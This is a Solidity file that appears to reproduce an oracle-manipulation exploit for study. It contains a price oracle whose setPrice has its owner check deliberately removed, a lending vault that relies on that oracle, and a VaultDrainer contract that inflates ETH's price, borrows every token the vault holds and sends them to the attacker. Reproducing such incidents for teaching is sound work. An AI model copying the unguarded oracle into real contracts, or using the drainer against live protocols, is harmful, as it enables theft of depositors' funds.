// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IVaultToken {
    function balanceOf(address who) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// The vault's price feed: USD prices with 18 decimals per whole unit (address(0) is ETH).
/// THE BUG: setPrice has no access control (the owner check was left out), as in Rikkei Finance's
/// SimplePriceOracle (April 2022): anyone can set any price.
contract PriceOracle {
    address public immutable owner;
    mapping(address => uint256) public priceOf;

    event PriceUpdated(address indexed asset, uint256 price);

    constructor() {
        owner = msg.sender;
    }

    function setPrice(address asset, uint256 price) external {
        // missing: require(msg.sender == owner, "not the owner");
        priceOf[asset] = price;
        emit PriceUpdated(asset, price);
    }
}

/// A small lending vault: lenders supply tokens; borrowers post ETH collateral and borrow tokens up to half the
/// collateral's value, valued by the PriceOracle.
contract LendingVault {
    PriceOracle public immutable oracle;
    uint256 public constant COLLATERAL_FACTOR_PCT = 50;
    mapping(address => mapping(address => uint256)) public supplied;  // token -> lender -> amount
    mapping(address => uint256) public collateral;                    // borrower -> wei
    mapping(address => mapping(address => uint256)) public debt;      // token -> borrower -> amount
    mapping(address => uint8) public decimalsOf;                      // listed tokens
    address[] public listed;

    event Supplied(address indexed token, address indexed lender, uint256 amount);
    event Withdrawn(address indexed token, address indexed lender, uint256 amount);
    event CollateralPosted(address indexed borrower, uint256 amount);
    event Borrowed(address indexed token, address indexed borrower, uint256 amount);
    event Repaid(address indexed token, address indexed borrower, uint256 amount);

    constructor(PriceOracle oracle_, address[] memory tokens, uint8[] memory decimals_) {
        oracle = oracle_;
        for (uint256 i = 0; i < tokens.length; i++) {
            decimalsOf[tokens[i]] = decimals_[i];
            listed.push(tokens[i]);
        }
    }

    function supply(address token, uint256 amount) external {
        require(decimalsOf[token] != 0, "token not listed");
        require(IVaultToken(token).transferFrom(msg.sender, address(this), amount), "transferFrom failed");
        supplied[token][msg.sender] += amount;
        emit Supplied(token, msg.sender, amount);
    }

    function withdraw(address token, uint256 amount) external {
        require(supplied[token][msg.sender] >= amount, "supplied too low");
        supplied[token][msg.sender] -= amount;
        require(IVaultToken(token).transfer(msg.sender, amount), "transfer failed");
        emit Withdrawn(token, msg.sender, amount);
    }

    function postCollateral() external payable {
        collateral[msg.sender] += msg.value;
        emit CollateralPosted(msg.sender, msg.value);
    }

    function borrow(address token, uint256 amount) external {
        require(decimalsOf[token] != 0, "token not listed");
        debt[token][msg.sender] += amount;
        require(debtValue(msg.sender) <= collateralValue(msg.sender) * COLLATERAL_FACTOR_PCT / 100,
                "insufficient collateral");
        require(IVaultToken(token).transfer(msg.sender, amount), "transfer failed");
        emit Borrowed(token, msg.sender, amount);
    }

    function repay(address token, uint256 amount) external {
        require(debt[token][msg.sender] >= amount, "repays too much");
        require(IVaultToken(token).transferFrom(msg.sender, address(this), amount), "transferFrom failed");
        debt[token][msg.sender] -= amount;
        emit Repaid(token, msg.sender, amount);
    }

    function collateralValue(address borrower) public view returns (uint256) {
        return collateral[borrower] * oracle.priceOf(address(0)) / 1e18;
    }

    function debtValue(address borrower) public view returns (uint256 total) {
        for (uint256 i = 0; i < listed.length; i++) {
            address token = listed[i];
            total += debt[token][borrower] * oracle.priceOf(token) / (10 ** decimalsOf[token]);
        }
    }
}

/// The attacker's contract: in one transaction it sets ETH's price absurdly high through the unguarded oracle,
/// posts the ETH it was sent as collateral, borrows every listed token the vault holds, sends them to `profitTo`
/// and puts ETH's price back.
contract VaultDrainer {
    address public immutable attacker;

    constructor() {
        attacker = msg.sender;
    }

    function attack(LendingVault vault, address[] calldata tokens, address profitTo) external payable {
        require(msg.sender == attacker, "not the attacker");
        PriceOracle oracle = vault.oracle();
        uint256 ethPrice = oracle.priceOf(address(0));
        oracle.setPrice(address(0), type(uint128).max);
        vault.postCollateral{value: msg.value}();
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 amount = IVaultToken(tokens[i]).balanceOf(address(vault));
            if (amount > 0) {
                vault.borrow(tokens[i], amount);
                require(IVaultToken(tokens[i]).transfer(profitTo, amount), "transfer failed");
            }
        }
        oracle.setPrice(address(0), ethPrice);
    }
}
